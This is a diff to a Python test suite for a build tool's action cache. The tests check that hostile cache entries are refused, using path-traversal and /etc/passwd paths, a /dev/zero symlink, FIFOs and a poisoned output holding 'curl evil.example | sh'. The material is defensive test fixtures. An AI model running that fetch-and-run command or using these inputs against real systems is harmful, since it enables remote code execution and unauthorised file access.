@@ -33,8 +33,9 @@ KEY = "5e" * 32
 OTHER_KEY = "7a" * 32
 KEY_ENV = "KSBUILD_TEST_SIGNING_KEY"
 SECRET = "a-long-random-signing-secret-0123456789"
-GOOD = {"app/out.txt": b"the real output\n", "app/gen/a.go": b"package gen\n"}
-EVIL = {"app/out.txt": b"curl evil.example | sh\n", "app/gen/a.go": b"package evil\n"}
+# app/out.txt is larger than a file an entry carries inline: it is a blob; app/gen/a.go travels inline
+GOOD = {"app/out.txt": b"the real output\n" * 2048, "app/gen/a.go": b"package gen\n"}
+EVIL = {"app/out.txt": b"curl evil.example | sh\n" * 2048, "app/gen/a.go": b"package evil\n"}
 
 
 # helpers -------------------------------------------------------------------------------------
@@ -236,27 +237,27 @@ MALFORMED = {
     "not JSON": (b"{not json", "is malformed"),
     "nested": (b"[" * 100_000 + b"]" * 100_000, "is malformed (nested too deeply)"),
     "not an object": (b"[1, 2]", "is malformed (not a JSON object)"),
-    "wrong shape": ({"format": 1, "outputs": {"app/out.txt": 1}, "dirs": []}, "is malformed (expected a list"),
-    "absolute": ({"format": 1, "outputs": [{**OUT[0], "path": "/etc/passwd"}], "dirs": []}, "not a declared output"),
-    "dot-dot": ({"format": 1, "outputs": OUT, "dirs": [{"path": "app/gen", "files": rows("../../../.bashrc")}]},
+    "wrong shape": ({"format": 2, "outputs": {"app/out.txt": 1}, "dirs": []}, "is malformed (expected a list"),
+    "absolute": ({"format": 2, "outputs": [{**OUT[0], "path": "/etc/passwd"}], "dirs": []}, "not a declared output"),
+    "dot-dot": ({"format": 2, "outputs": OUT, "dirs": [{"path": "app/gen", "files": rows("../../../.bashrc")}]},
                 "not a plain relative path"),
-    "undeclared": ({"format": 1, "outputs": [{**OUT[0], "path": "app/other"}], "dirs": []}, "not a declared output"),
-    "file inside a file": ({"format": 1, "outputs": OUT, "dirs": [{"path": "app/gen", "files": rows("zz", "zz/b")}]},
+    "undeclared": ({"format": 2, "outputs": [{**OUT[0], "path": "app/other"}], "dirs": []}, "not a declared output"),
+    "file inside a file": ({"format": 2, "outputs": OUT, "dirs": [{"path": "app/gen", "files": rows("zz", "zz/b")}]},
                            "names both 'app/gen/zz' and 'app/gen/zz/b': a file cannot also be a directory"),
-    "duplicate": ({"format": 1, "outputs": OUT, "dirs": [{"path": "app/gen", "files": rows("a.go", "a.go")}]},
+    "duplicate": ({"format": 2, "outputs": OUT, "dirs": [{"path": "app/gen", "files": rows("a.go", "a.go")}]},
                   "names 'app/gen/a.go' twice"),
-    "duplicate key": (b'{"format": 1, "outputs": [], "outputs": [], "dirs": []}', "is malformed (ValueError)"),
-    "lone surrogate": ({"format": 1, "outputs": OUT, "dirs": [{"path": "app/gen", "files": rows("\ud800.go")}]},
+    "duplicate key": (b'{"format": 2, "outputs": [], "outputs": [], "dirs": []}', "is malformed (ValueError)"),
+    "lone surrogate": ({"format": 2, "outputs": OUT, "dirs": [{"path": "app/gen", "files": rows("\ud800.go")}]},
                        "not a plain relative path"),
-    "NUL": ({"format": 1, "outputs": OUT, "dirs": [{"path": "app/gen", "files": rows("a\0b")}]},
+    "NUL": ({"format": 2, "outputs": OUT, "dirs": [{"path": "app/gen", "files": rows("a\0b")}]},
             "not a plain relative path"),
-    "long name": ({"format": 1, "outputs": OUT, "dirs": [{"path": "app/gen", "files": rows("n" * 300)}]},
+    "long name": ({"format": 2, "outputs": OUT, "dirs": [{"path": "app/gen", "files": rows("n" * 300)}]},
                   "not a plain relative path"),
-    "boolean size": ({"format": 1, "outputs": [{**OUT[0], "size": True}], "dirs": [{"path": "app/gen", "files": []}]},
+    "boolean size": ({"format": 2, "outputs": [{**OUT[0], "size": True}], "dirs": [{"path": "app/gen", "files": []}]},
                      "bad digest, size or mode"),
-    "huge count": ({"format": 1, "outputs": OUT,
+    "huge count": ({"format": 2, "outputs": OUT,
                     "dirs": [{"path": "app/gen", "files": [{}] * (MAX_ENTRY_FILES + 1)}]}, "is malformed"),
-    "oversized": (b'{"format": 1, "outputs": [], "dirs": [], "pad": "' + b"x" * 2**20 + b'"}',
+    "oversized": (b'{"format": 2, "outputs": [], "dirs": [], "pad": "' + b"x" * 2**20 + b'"}',
                   "is refused:"),
 }
 
@@ -282,7 +283,7 @@ def test_an_entry_naming_too_many_files_is_refused(tmp_path, monkeypatch, capsys
     """MAX_ENTRY_FILES rows do not fit in MAX_ENTRY_SIZE bytes today: lower the count to show it holds."""
     monkeypatch.setattr(entries, "MAX_ENTRY_FILES", 100)
     write_blob(tmp_path / "local", b"x\n")
-    write_entry(tmp_path / "local", {"format": 1, "outputs": OUT,
+    write_entry(tmp_path / "local", {"format": 2, "outputs": OUT,
                                      "dirs": [{"path": "app/gen", "files": rows(*(f"f{i}" for i in range(100)))}]})
     assert restore(ActionCache(config(tmp_path)), tmp_path) == (None, {})
     assert warnings(capsys) == [f"ksbuild: warning: local cache: entry {KEY[:12]} names 101 files, more than an entry "
@@ -294,7 +295,7 @@ def test_a_file_inside_a_file_never_fails_the_restore_in_any_order(tmp_path, cap
     """`zz/b` before `zz` as well: the layout is refused before anything is laid out."""
     local = tmp_path / "local"
     write_blob(local, b"x\n")
-    write_entry(local, {"format": 1, "outputs": OUT, "dirs": [{"path": "app/gen", "files": rows("zz/b", "zz")}]})
+    write_entry(local, {"format": 2, "outputs": OUT, "dirs": [{"path": "app/gen", "files": rows("zz/b", "zz")}]})
     assert restore(ActionCache(config(tmp_path)), tmp_path) == (None, {})
     assert "names both 'app/gen/zz' and 'app/gen/zz/b'" in warnings(capsys)[0]
 
@@ -594,8 +595,8 @@ def test_read_only_mode_never_writes_to_nginx(tmp_path, capsys):
     with nginx_webdav(tmp_path / "nginx") as server:
         writer = ActionCache(config(tmp_path, server.url, local="writer", timeout=5))
         writer.save(KEY, ACTION, exec_root(tmp_path, GOOD, "writer-exec"))
-        corrupt = server.data / "cas" / hashlib.sha256(GOOD["app/gen/a.go"]).hexdigest()
-        corrupt.write_bytes(b"package tampered\n")
+        corrupt = server.data / "cas" / hashlib.sha256(GOOD["app/out.txt"]).hexdigest()
+        corrupt.write_bytes(b"tampered\n")
         files = {p: p.read_bytes() for p in server.files()}
         _sentinel(server)  # the writer's requests are all in the log
         logged = len(server.requests())
@@ -671,20 +672,22 @@ def test_a_build_after_a_hostile_entry_succeeds_with_one_warning(poison, tmp_pat
         first.env["KSBUILD_CACHE_SIGNING_KEY"] = SECRET
     first.doit()
     key = upper_key(first)
-    if poison == "dev-zero blob":
+    if poison == "dev-zero blob":  # upper.txt is small: its content is inside the entry, now a blob's row
         blob = blob_path(remote, b"ONE\nTWO\n")
+        write_entry(remote, {"format": 2, "outputs": [{"path": "app/out/upper.txt", **write_blob(remote, b"ONE\nTWO\n")}],
+                             "dirs": []}, key)
         blob.unlink()
         blob.symlink_to("/dev/zero")
     elif poison == "fifo entry":
         entry_path(remote, key).unlink()
         os.mkfifo(entry_path(remote, key))
     elif poison == "file inside a file":  # what a command target cannot name: any other path is as bad
-        write_entry(remote, {"format": 1, "outputs": [{"path": "app/out/upper.txt", **write_blob(remote, b"E\n")},
+        write_entry(remote, {"format": 2, "outputs": [{"path": "app/out/upper.txt", **write_blob(remote, b"E\n")},
                                                       {"path": "app/out/upper.txt/x", **write_blob(remote, b"E\n")}],
                              "dirs": []}, key)
     else:
         evil = write_blob(remote, b"EVIL\n")
-        write_entry(remote, {"format": 1, "outputs": [{"path": "app/out/upper.txt", **evil}], "dirs": []}, key)
+        write_entry(remote, {"format": 2, "outputs": [{"path": "app/out/upper.txt", **evil}], "dirs": []}, key)
 
     second = small(tmp_path / "second", remote, cache_yaml)
     if signed:
